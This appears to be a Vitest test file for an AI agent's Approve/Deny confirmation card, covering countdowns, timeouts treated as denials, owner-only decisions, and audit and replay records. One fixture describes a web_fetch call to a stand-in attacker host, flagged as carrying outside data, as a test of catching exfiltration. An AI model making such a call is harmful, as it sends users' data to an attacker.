import { describe, expect, it, vi } from "vitest";
import { AUDIT_TYPES } from "@/db/schema";
import {
  applyEvent,
  endTurn,
  newTurn,
  turnsFromHistory,
  waitsForUser,
} from "@/features/drawer/components/chat-view";
import { secondsLeft } from "@/features/drawer/components/confirm-view";
import { parseFrame } from "@/features/drawer/components/sse";
import type { AgentEvent, ChatTurn, HistoryMessage, ToolCardState } from "@/features/drawer/components/types";
import { buildReplay } from "@/features/replay/replay-view";
import { Confirmations, timedOutMessage, waitText } from "@/lib/agent/confirmations";
import { auditOf } from "@/lib/governance/recorder";

const START = "2026-11-30T10:00:00.000Z";

const toolOf = (turn: ChatTurn, callId = "c1"): ToolCardState => {
  const part = turn.parts.find((p) => p.type === "tool" && p.tool.callId === callId);
  if (part?.type !== "tool") throw new Error("no tool card");
  return part.tool;
};
const asked = (): ChatTurn =>
  [
    { type: "turn", turnId: "t1", conversationId: "conv" },
    { type: "tool_call", call: { id: "c1", name: "pay", args: { amount: 4 } }, round: 1 },
    {
      type: "confirm",
      callId: "c1",
      name: "pay",
      args: { amount: 4 },
      expiresAt: "2030-01-01T00:00:00.000Z",
      timeoutMs: 60_000,
    },
  ].reduce((turn, e) => applyEvent(turn, e as AgentEvent), newTurn("pay 4"));

describe("the drawer's Approve / Deny card", () => {
  it("a confirm event makes the call wait, counting down from this browser's clock", () => {
    vi.useFakeTimers({ now: 1_000_000 });
    try {
      const tool = toolOf(asked());
      expect(tool.status).toBe("running");
      // Not the server's expiresAt (another clock): the limit, from when the question arrived.
      expect(tool.confirmation).toEqual({ state: "pending", deadline: 1_060_000, timeoutMs: 60_000 });
    } finally {
      vi.useRealTimers();
    }
  });

  it("a confirm event that says the turn carries outside data keeps where the call would send it, for the card", () => {
    const turn = applyEvent(asked(), {
      type: "confirm",
      callId: "c1",
      name: "web_fetch",
      args: { url: "https://attacker.example/?q=1" },
      expiresAt: "2030-01-01T00:00:00.000Z",
      timeoutMs: 60_000,
      reason: {
        code: "outside_data",
        to: "attacker.example",
        message: "this turn carries data from outside",
      },
    });
    expect(toolOf(turn).confirmation).toMatchObject({ state: "pending", sendsTo: "attacker.example" });
  });

  it("while the only running call waits for the user, the turn is not 'working'", () => {
    expect(waitsForUser(asked())).toBe(true);
    const another = applyEvent(asked(), {
      type: "tool_call",
      call: { id: "c2", name: "slow", args: {} },
      round: 1,
    });
    expect(waitsForUser(another)).toBe(false);
    expect(waitsForUser(newTurn("hi"))).toBe(false);
  });

  it("the decision settles the card; the result follows as usual", () => {
    const denied = [
      { type: "confirmation", callId: "c1", name: "pay", decision: "deny", by: "u1", waitedMs: 900 },
      {
        type: "tool_result",
        callId: "c1",
        name: "pay",
        ok: false,
        result: '{"error":"the user denied this call"}',
        durationMs: 0,
      },
    ].reduce((turn, e) => applyEvent(turn, e as AgentEvent), asked());
    expect(toolOf(denied)).toMatchObject({
      status: "error",
      confirmation: { state: "decided", decision: "deny" },
    });
  });

  it("a question still open when the turn ends (Stop) reads as cancelled, not as waiting forever", () => {
    expect(toolOf(endTurn(asked(), { stopped: true })).confirmation).toEqual({
      state: "decided",
      decision: "cancelled",
    });
    const done = applyEvent(asked(), {
      type: "done",
      summary: { turnId: "t1", status: "stopped", usage: {}, toolTrace: [] } as never,
    });
    expect(toolOf(done)).toMatchObject({ status: "cancelled", confirmation: { decision: "cancelled" } });
  });

  it("after a reload the stored decision is shown again (a timeout as such)", () => {
    const history: HistoryMessage[] = [
      { id: "m1", turnId: "t1", role: "user", content: "pay", createdAt: "" },
      {
        id: "m2",
        turnId: "t1",
        role: "assistant",
        content: "",
        toolCalls: [{ id: "c1", name: "pay", args: { amount: 4 } }],
        createdAt: "",
      },
      {
        id: "m3",
        turnId: "t1",
        role: "tool",
        toolCallId: "c1",
        content: JSON.stringify({ error: timedOutMessage(60_000) }),
        data: { confirmation: "timeout" },
        createdAt: "",
      },
    ];
    const [turn] = turnsFromHistory(history);
    expect(toolOf(turn!)).toMatchObject({
      status: "error",
      confirmation: { state: "decided", decision: "timeout" },
    });
  });

  it("the stream parser keeps confirm and confirmation events", () => {
    expect(parseFrame('event: confirm\ndata: {"callId":"c1","timeoutMs":5}')).toMatchObject({
      type: "confirm",
      callId: "c1",
    });
    expect(parseFrame('event: confirmation\ndata: {"callId":"c1","decision":"approve"}')).toMatchObject({
      type: "confirmation",
    });
  });

  it("counts whole seconds up, never below zero", () => {
    expect(secondsLeft(10_000, 0)).toBe(10);
    expect(secondsLeft(10_000, 9_001)).toBe(1);
    expect(secondsLeft(10_000, 10_000)).toBe(0);
    expect(secondsLeft(10_000, 99_000)).toBe(0);
  });
});

describe("waiting for a decision", () => {
  const owner = { tenantId: "t", userId: "u" };
  const request = { turnId: "turn", callId: "c1", ...owner };

  it("the owner's decision ends the wait; a second answer hears it was already decided", async () => {
    const desk = new Confirmations({ timeoutMs: 60_000 });
    const pending = desk.ask(request, new AbortController().signal);
    expect(
      await desk.decide({ turnId: "turn", callId: "c1" }, { tenantId: "t", userId: "other" }, true),
    ).toEqual({
      status: "unknown",
    });
    expect(
      await desk.decide({ turnId: "turn", callId: "c1" }, { tenantId: "t2", userId: "u" }, true),
    ).toEqual({
      status: "unknown",
    });
    expect(await desk.decide({ turnId: "turn", callId: "c1" }, owner, false)).toEqual({ status: "decided" });
    expect(await pending.outcome).toMatchObject({ decision: "deny", by: "u" });
    expect(await desk.decide({ turnId: "turn", callId: "c1" }, owner, true)).toEqual({
      status: "settled",
      decision: "deny",
    });
    expect(desk.pending).toBe(0);
  });

  it("times out into a denial, and an abort cancels the wait", async () => {
    const desk = new Confirmations({ timeoutMs: 20 });
    expect(await desk.ask(request, new AbortController().signal).outcome).toMatchObject({
      decision: "timeout",
      by: null,
    });
    const stop = new AbortController();
    const pending = desk.ask({ ...request, callId: "c2" }, stop.signal);
    stop.abort();
    expect(await pending.outcome).toMatchObject({ decision: "cancelled" });
    expect(await desk.decide({ turnId: "turn", callId: "c2" }, owner, true)).toEqual({
      status: "settled",
      decision: "cancelled",
    });
  });

  it("says the limit as people read it", () => {
    expect(waitText(60_000)).toBe("60 s");
    expect(waitText(1_500)).toBe("1.5 s");
    expect(waitText(300)).toBe("300 ms");
  });
});

describe("the decision in the audit trail and the replay", () => {
  it("a confirmation event becomes a `confirmation` audit event with the tool, decision, who and how long", () => {
    expect(
      auditOf({
        type: "confirmation",
        callId: "c1",
        name: "pay",
        decision: "approve",
        by: "u1",
        waitedMs: 1200,
      }),
    ).toEqual({
      type: "confirmation",
      payload: { callId: "c1", tool: "pay", decision: "approve", by: "u1", waitedMs: 1200 },
    });
    // The question itself is not a record: the decision (or the Stop) is.
    expect(
      auditOf({ type: "confirm", callId: "c1", name: "pay", args: {}, expiresAt: "", timeoutMs: 1 }),
    ).toBeNull();
    expect(AUDIT_TYPES).toContain("confirmation");
  });

  it("the replay shows the decision as its own step, labelled by the decision", () => {
    const { steps } = buildReplay(
      { id: "t", source: "drawer", status: "success", rounds: 1, latencyMs: 100, startedAt: START } as never,
      [
        {
          seq: 1,
          type: "tool_call",
          createdAt: START,
          payload: { callId: "c1", name: "pay", args: {}, round: 1 },
        },
        {
          seq: 2,
          type: "confirmation",
          createdAt: START,
          payload: { callId: "c1", tool: "pay", decision: "deny", by: "u1", waitedMs: 50, atMs: 60 },
        },
      ],
    );
    expect(steps.find((s) => s.kind === "confirmation")).toMatchObject({ seq: 2, atMs: 60 });
  });
});
